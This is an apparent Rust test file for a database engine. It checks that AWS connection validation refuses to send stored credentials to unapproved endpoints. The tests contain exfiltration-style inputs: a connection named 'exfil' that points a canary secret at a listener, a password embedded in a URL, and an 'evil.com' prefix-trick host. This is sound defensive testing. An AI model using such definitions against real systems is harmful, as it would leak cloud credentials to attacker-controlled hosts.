//! The endpoint rule end to end, each attack exactly as it was reported: a raw TCP
//! listener on loopback records whatever reaches it, and nothing may — no connection,
//! no canary byte — for `VALIDATE CONNECTION`, `CREATE`/`ALTER ... WITH (VALIDATE =
//! true)` and the credentials provider hosts use. Listing an endpoint with `ALTER SYSTEM
//! SET aws_allowed_endpoints` lets it through, and the history marks it as not AWS.

use std::time::Duration;

use airlock_engine::aws::AwsConfig;
use airlock_engine::core::Diagnostic;
use airlock_engine::{AwsSetup, Engine, EngineConfig, Session};
use airlock_testkit as kit;

const CANARY: &str = "AKIACANARYVICTIM0001";

fn session() -> Session {
    let config = EngineConfig {
        aws: AwsSetup::Config(Box::new(
            AwsConfig::new(kit::offline_sdk_config()).with_timeout(Duration::from_secs(2)),
        )),
        ..EngineConfig::default()
    };
    let mut session = Engine::open(":memory:", config).expect("engine").session();
    ok(&mut session, &format!("CREATE SECRET victim AS '{CANARY}'"));
    session
}

fn ok(session: &mut Session, sql: &str) -> Vec<Diagnostic> {
    let mut notices = Vec::new();
    for result in session.execute(sql) {
        notices.extend(
            result
                .unwrap_or_else(|e| panic!("{sql}: {}", e.render()))
                .notices,
        );
    }
    notices
}

fn err(session: &mut Session, sql: &str) -> Diagnostic {
    session
        .execute(sql)
        .pop()
        .expect("a result")
        .expect_err("must fail")
}

fn query(session: &mut Session, sql: &str) -> Vec<Vec<Option<String>>> {
    let results = session.execute(sql);
    let last = results.last().unwrap().as_ref().expect("query");
    last.rows().expect("rows").rows.clone()
}

fn assert_refused(d: &Diagnostic, endpoint: &str) {
    let text = d.render();
    assert_eq!(d.code.code(), "42501", "{text}");
    assert!(text.contains(&format!("ENDPOINT is {endpoint}")), "{text}");
    assert!(
        text.contains("ALTER SYSTEM SET aws_allowed_endpoints"),
        "{text}"
    );
    assert!(!text.contains(CANARY), "{text}");
}

fn assert_nothing_arrived(listener: kit::Recorder) {
    let received = listener.finish();
    assert!(
        received.is_empty(),
        "{} connection(s) arrived",
        received.len()
    );
}

#[test]
fn validate_of_an_exfiltrating_connection_sends_nothing() {
    let listener = kit::recording_listener();
    let mut s = session();
    let endpoint = &listener.endpoint;
    let notices = ok(
        &mut s,
        &format!(
            "CREATE CONNECTION exfil TO AWS (ACCESS KEY ID = SECRET victim, SECRET ACCESS KEY = SECRET victim, ENDPOINT = '{endpoint}')"
        ),
    );
    let notice = notices.iter().map(Diagnostic::render).collect::<String>();
    assert!(
        notice.contains(
            "connection \"exfil\" cannot be validated or used until its ENDPOINT is allowed"
        ),
        "{notice}"
    );
    assert_refused(&err(&mut s, "VALIDATE CONNECTION exfil"), endpoint);
    // A refusal sends nothing, so there is no validation to record.
    assert!(query(&mut s, "SELECT * FROM mz_aws_connection_validations").is_empty());
    // The credentials provider hosts use refuses too.
    assert_refused(&s.aws_sdk_config("exfil").unwrap_err(), endpoint);
    assert_nothing_arrived(listener);
}

#[test]
fn create_and_alter_with_validate_send_nothing() {
    let listener = kit::recording_listener();
    let mut s = session();
    let endpoint = &listener.endpoint;
    let d = err(
        &mut s,
        &format!(
            "CREATE CONNECTION exfil TO AWS (ACCESS KEY ID = SECRET victim, SECRET ACCESS KEY = SECRET victim, ENDPOINT = '{endpoint}') WITH (VALIDATE = true)"
        ),
    );
    assert_refused(&d, endpoint);
    assert!(query(&mut s, "SELECT name FROM mz_connections").is_empty());

    ok(
        &mut s,
        "CREATE CONNECTION c TO AWS (ACCESS KEY ID = SECRET victim, SECRET ACCESS KEY = SECRET victim)",
    );
    let d = err(
        &mut s,
        &format!("ALTER CONNECTION c SET (ENDPOINT = '{endpoint}') WITH (VALIDATE = true)"),
    );
    assert_refused(&d, endpoint);
    assert_eq!(
        query(&mut s, "SELECT endpoint FROM mz_aws_connections"),
        vec![vec![None]],
        "the refused ALTER changed nothing"
    );
    assert_nothing_arrived(listener);
}

#[test]
fn a_listed_fake_sts_is_marked_not_aws() {
    let fake = kit::fake_sts("arn:aws:iam::000000000000:user/someone-else");
    let mut s = session();
    ok(
        &mut s,
        &format!(
            "CREATE CONNECTION c TO AWS (ACCESS KEY ID = SECRET victim, SECRET ACCESS KEY = SECRET victim, ENDPOINT = '{}')",
            fake.endpoint
        ),
    );
    assert_eq!(err(&mut s, "VALIDATE CONNECTION c").code.code(), "42501");

    ok(
        &mut s,
        &format!(
            "ALTER SYSTEM SET aws_allowed_endpoints = '{}'",
            fake.endpoint
        ),
    );
    assert_eq!(
        query(&mut s, "SHOW aws_allowed_endpoints"),
        vec![vec![Some(fake.endpoint.clone())]]
    );
    let rows = query(&mut s, "VALIDATE CONNECTION c");
    assert_eq!(rows[0][0].as_deref(), Some("endpoint"), "{rows:?}");
    assert_eq!(rows[1][1].as_deref(), Some("ok"), "{rows:?}");
    assert_eq!(
        query(
            &mut s,
            "SELECT status, non_aws_endpoint FROM mz_aws_connection_validations"
        ),
        vec![vec![Some("ok".into()), Some(fake.endpoint.clone())]]
    );
    assert_eq!(fake.finish().len(), 1);

    ok(&mut s, "ALTER SYSTEM RESET aws_allowed_endpoints");
    assert_eq!(
        query(&mut s, "SHOW aws_allowed_endpoints"),
        vec![vec![Some(String::new())]]
    );
    assert_eq!(err(&mut s, "VALIDATE CONNECTION c").code.code(), "42501");
}

#[test]
fn passwords_in_urls_are_never_echoed_or_kept() {
    let mut s = session();
    let d = err(
        &mut s,
        "CREATE CONNECTION p TO AWS (ASSUME ROLE ARN = 'arn:aws:iam::001234567890:role/R', ENDPOINT = 'http://user:pw-CANARY@127.0.0.1:4566/')",
    );
    assert_eq!(d.code.code(), "22023");
    assert!(!d.render().contains("pw-CANARY"), "{}", d.render());
    assert!(d.render().contains("http://<redacted>@127.0.0.1:4566/"));
    let d = err(
        &mut s,
        "ALTER SYSTEM SET aws_allowed_endpoints = 'http://u:pw-CANARY@127.0.0.1:4566/'",
    );
    assert_eq!(d.code.code(), "22023");
    assert!(!d.render().contains("pw-CANARY"), "{}", d.render());
    // Prefix tricks do not parse, let alone match.
    let d = err(
        &mut s,
        "ALTER SYSTEM SET aws_allowed_endpoints = 'http://127.0.0.1:4566.evil.com/'",
    );
    assert_eq!(d.code.code(), "22023");
    assert_eq!(
        query(&mut s, "SHOW aws_allowed_endpoints"),
        vec![vec![Some(String::new())]]
    );
}
